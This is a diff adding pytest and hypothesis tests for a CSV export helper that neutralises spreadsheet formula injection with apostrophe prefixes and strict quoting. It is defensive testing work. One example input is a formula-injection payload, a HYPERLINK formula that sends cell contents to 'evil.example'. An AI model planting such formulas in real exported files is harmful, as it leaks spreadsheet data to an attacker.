@@ -1,0 +1,74 @@
+"""Tables for spreadsheets: what was written is read back, and nothing is a formula."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from webinars.safety.csv import harmless, lines
+
+SIGNS = "=+-@\t\r\n\0＝＋－＠"
+cells = st.text(st.sampled_from([*SIGNS, *"'\",; a١", "é", "\u200b", "\u3000"]), max_size=6)
+
+
+def read(body):
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))
+
+
+@pytest.mark.parametrize("sign", SIGNS)
+def test_a_cell_that_begins_like_a_formula_is_written_behind_an_apostrophe(sign):
+    assert harmless(f"{sign}1+1") == f"'{sign}1+1"
+
+
+@pytest.mark.parametrize("cell", [" =1", "\u200b=1", "\u3000＝1", "\ufeff@A1", "\u00a0-1"])
+def test_what_is_passed_over_hides_no_formula(cell):
+    assert harmless(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", ["", "Ann", "a=b", "O'Neill", "name@example.org", "2026-11-25"])
+def test_other_cells_stay_as_they_are(cell):
+    assert harmless(cell) == cell
+
+
+def test_every_cell_stands_in_quotes_and_lines_end_as_spreadsheets_want():
+    body = b"".join(lines([["Name", ""], ['The "best"', "é"]]))
+
+    assert body == '\ufeff"Name",""\r\n"The ""best""","é"\r\n'.encode()
+
+
+def test_an_empty_table_is_empty():
+    assert b"".join(lines([])) == b""
+
+
+def test_a_letter_that_cannot_be_written_does_not_end_the_table():
+    assert read(b"".join(lines([["a\ud800b"], ["c"]]))) == [["a?b"], ["c"]]
+
+
+def test_lines_come_one_by_one_as_rows_are_read():
+    asked = []
+
+    def rows():
+        for number in range(3):
+            asked.append(number)
+            yield [str(number)]
+
+    table = lines(rows())
+    next(table)
+
+    assert asked == [0]
+
+
+@settings(max_examples=200)
+@given(st.lists(st.lists(cells, min_size=2, max_size=3), min_size=1, max_size=4))
+@example([['=HYPERLINK("https://evil.example?"&A1)', "\r\n=1"]])
+def test_any_table_is_read_back_with_at_most_an_apostrophe_more(table):
+    back = read(b"".join(lines(table)))
+
+    assert [[cell.removeprefix("'") for cell in row] for row in back] == [
+        [cell.removeprefix("'") for cell in row] for row in table
+    ]
+    for row in back:
+        for cell in row:
+            assert cell.lstrip(" \u200b\u3000")[:1] not in tuple(SIGNS)
